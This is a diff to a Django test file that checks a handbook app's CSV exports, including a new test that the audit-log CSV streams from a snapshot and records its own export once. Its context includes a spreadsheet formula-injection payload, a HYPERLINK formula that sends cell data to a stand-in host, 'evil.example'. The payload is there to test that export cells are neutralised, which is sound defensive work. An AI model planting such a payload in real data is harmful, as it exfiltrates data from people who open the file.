@@ -8,7 +8,9 @@ from django.test import Client
 from django.urls import reverse
 
 from accounts.models import AccessRequest
+from handbook.audit import audit_record
 from handbook.csvexport import FORMULA_STARTS, csv_cell
+from handbook.models import AuditAction, AuditEntry
 from tests.factories import CountryFactory
 
 pytestmark = pytest.mark.django_db
@@ -16,7 +18,7 @@ EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
 
 
 def _cells(response) -> list[str]:
-    rows = csv.reader(io.StringIO(response.content.decode()))
+    rows = csv.reader(io.StringIO(b"".join(response.streaming_content).decode()))
     return [cell for row in rows for cell in row]
 
 
@@ -65,3 +67,16 @@ def test_names_typed_into_the_public_form_are_neutralised_in_every_column(secret
 )
 def test_every_cell_shape_is_neutralised(value, expected):
     assert csv_cell(value) == expected
+
+
+def test_the_audit_csv_is_streamed_from_a_snapshot_and_audited_once(secretariat_client):
+    for n in range(3):
+        audit_record(action=AuditAction.LOGIN_SUCCESS, detail=f"entry {n}")
+    before = AuditEntry.objects.count()
+    response = secretariat_client.get(reverse("audit_csv"))
+    assert response.streaming
+    rows = _cells(response)
+    assert sum(cell.startswith("entry ") for cell in rows) == 3
+    assert "export.data" not in rows  # the export's own entry is not in its snapshot
+    exported = AuditEntry.objects.get(action=AuditAction.DATA_EXPORTED)
+    assert exported.detail.startswith(f"audit log CSV, {before} entries")
